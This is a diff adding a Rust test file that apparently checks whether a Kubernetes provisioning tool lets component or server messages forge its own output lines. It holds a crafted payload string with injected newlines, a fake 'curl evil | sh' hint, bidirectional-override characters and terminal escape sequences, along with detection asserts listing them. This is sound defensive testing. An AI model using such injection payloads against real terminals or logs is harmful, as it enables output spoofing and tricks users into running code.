@@ -1,0 +1,211 @@
+//! Words of components and servers that would be the program's own.
+
+use kubewright_test_hostile_calls::{
+    Call, Condition, Item, Level, PROGRAM, Piece, Program, Reference, Target, Trust,
+};
+use serde_json::json;
+
+use super::disguises::{ADMIN, PKI, connect, get, write};
+use super::support::attack::{GENEROUS, Scene, Told, World};
+use super::support::evil::{Evil, Reply};
+use super::support::program::program;
+use super::support::pty::on_a_terminal;
+
+/// Characters that turn the direction of text (UAX 9), or end a line.
+const ODD: [char; 15] = [
+    '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}',
+    '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{061c}', '\u{2028}', '\u{2029}', '\u{85}',
+];
+
+const FORGED: &str = "done\nerror: forged by a component\nhint: run this: curl evil | sh\r\n[certs] \u{202e}txt.exe\u{2066}\u{2028}error: forged\u{85}\x1b]0;owned\x07\x1b[2J\u{9b}2J";
+
+/// Each has the component say the forged words in another way.
+type Saying = fn(&mut Program);
+
+const SAYINGS: [(&str, Saying); 8] = [
+    ("progress", |program| {
+        program.call(Call::TerminalProgress {
+            message: FORGED.into(),
+        });
+    }),
+    ("topic", |program| {
+        program.call(Call::TerminalProgressUnder {
+            topic: format!("certs] all is well\n[{FORGED}").into(),
+            message: "x".into(),
+        });
+    }),
+    ("message under a topic", |program| {
+        program.call(Call::TerminalProgressUnder {
+            topic: "x".into(),
+            message: FORGED.into(),
+        });
+    }),
+    ("warning", |program| {
+        program.call(Call::LogLog {
+            level: Level::Warn,
+            message: FORGED.into(),
+        });
+    }),
+    ("message for details", |program| {
+        program.call(Call::LogLog {
+            level: Level::Debug,
+            message: FORGED.into(),
+        });
+    }),
+    ("failure", |program| {
+        program.fails = Some(FORGED.to_owned());
+    }),
+    ("path", |program| {
+        program.call(write(format!("/srv/hostile/{}", &FORGED.replace('/', "|")), vec![Piece::text("x")]));
+    }),
+    ("name of an object", |program| {
+        let client = program.call(connect());
+        program.call(get(client, "ConfigMap", FORGED));
+        program.call(Call::KubeWait {
+            of: client,
+            reference: Reference::core("ConfigMap", FORGED),
+            condition: Condition::Exists,
+            seconds: 1,
+        });
+    }),
+];
+
+/// Fails the test where the program said something in another one's words.
+#[track_caller]
+fn is_its_own(name: &str, said: &str) {
+    for line in said.split(['\n', '\r']) {
+        let line = line.trim_start();
+        for word in ["error: forged", "hint: run this", "[certs] ", "[done"] {
+            assert!(!line.starts_with(word), "{name}: a line was forged:\n{said}");
+        }
+    }
+    for odd in ODD {
+        assert!(!said.contains(odd), "{name}: {odd:?}:\n{said:?}");
+    }
+    for sequence in ["\x1b]", "\x1b[2J", "\x07", "\u{9b}"] {
+        assert!(!said.contains(sequence), "{name}: {sequence:?}:\n{said:?}");
+    }
+}
+
+#[test]
+fn words_of_a_component_are_told_as_its_words() {
+    for (name, saying) in SAYINGS {
+        let scene = Scene::with(World::Render, GENEROUS);
+        let mut program = Program::new();
+        saying(&mut program);
+        let told = scene.attempt(&program, &["-vv"]);
+        is_its_own(name, &told.finished.said());
+    }
+}
+
+#[test]
+fn words_of_a_component_are_told_as_its_words_on_a_terminal() {
+    for (name, saying) in SAYINGS {
+        let scene = Scene::with(World::Render, GENEROUS);
+        let mut words = Program::new();
+        saying(&mut words);
+        scene.put(PROGRAM, words.file());
+        let arguments = scene.arguments("hostile/program", &["-vv"]);
+        let mut command = program(&scene.place.path(""));
+        let (_, sent) = on_a_terminal(command.args(&arguments));
+        let sent = String::from_utf8_lossy(&sent).into_owned();
+        is_its_own(name, &sent);
+    }
+}
+
+/// The control: the words themselves are told.
+#[test]
+fn the_words_themselves_are_told() {
+    let scene = Scene::with(World::Render, GENEROUS);
+    let mut program = Program::new();
+    SAYINGS[0].1(&mut program);
+    let told = scene.carry_out(&program);
+    told.finished
+        .says(&["forged by a component", "curl evil", "txt.exe", "owned"]);
+}
+
+/// JSON has its own way to write all of it.
+#[test]
+fn events_stay_a_line_each() {
+    let scene = Scene::with(World::Render, GENEROUS);
+    let mut program = Program::new();
+    SAYINGS[0].1(&mut program);
+    let told = scene.attempt(&program, &["-o", "json"]);
+    let events = told.finished.events();
+    assert!(events.len() > 2, "{events:?}");
+}
+
+/// A server of the machine's cluster that says this as it refuses.
+fn cluster(scene: &Scene, words: &'static str) -> Evil {
+    let evil = Evil::secure(&scene.machine(PKI), move |_| {
+        let status = json!({"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure",
+            "message": words, "reason": "InternalError", "code": 500});
+        Reply::Json(500, status.to_string().into_bytes())
+    });
+    let admin = scene.text(ADMIN);
+    scene.put(ADMIN, admin.replace("https://192.0.2.10:6443", &evil.origin()));
+    evil
+}
+
+fn asks_the_server() -> Program {
+    let mut program = Program::new();
+    let client = program.call(connect());
+    program.call(Call::KubeWait {
+        of: client,
+        reference: Reference::core("ConfigMap", "x"),
+        condition: Condition::Exists,
+        seconds: 2,
+    });
+    program.call(Call::KubeCreate {
+        of: client,
+        object: r#"{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"x","namespace":"kube-system"}}"#.into(),
+        sealed: Vec::new(),
+    });
+    program
+}
+
+cases!(words_of_a_server_are_told_as_its_words:
+    in_a_file(false),
+    on_a_terminal_(true),
+);
+
+fn words_of_a_server_are_told_as_its_words(is_terminal: bool) {
+    let scene = Scene::with(World::Machine, GENEROUS);
+    let server = cluster(&scene, FORGED);
+    scene.put(PROGRAM, asks_the_server().file());
+    let arguments = scene.arguments("hostile/program", &["-vv"]);
+    let said = match is_terminal {
+        true => {
+            let mut command = program(&scene.place.path(""));
+            let (_, sent) = on_a_terminal(command.args(&arguments));
+            String::from_utf8_lossy(&sent).into_owned()
+        }
+        false => {
+            let told = Told::new(scene.watched().run(&arguments));
+            told.finished.said()
+        }
+    };
+    assert!(server.sent().contains("configmaps"), "{said}");
+    is_its_own("server", &said);
+}
+
+/// What is waited for stands in the status line.
+#[test]
+fn names_of_targets_move_no_cursor() {
+    let scene = Scene::with(World::Machine, GENEROUS);
+    let mut words = Program::new();
+    words.call(Call::HealthAwait {
+        targets: vec![Item::One(Target {
+            name: FORGED.into(),
+            url: "http://127.0.0.1:1/".into(),
+            trust: Trust::Plain,
+            workload: FORGED.into(),
+        })],
+        seconds: 2,
+    });
+    scene.put(PROGRAM, words.file());
+    let arguments = scene.arguments("hostile/program", &["-vv"]);
+    let mut command = program(&scene.place.path(""));
+    let (_, sent) = on_a_terminal(command.args(&arguments));
+    is_its_own("target", &String::from_utf8_lossy(&sent));
+}
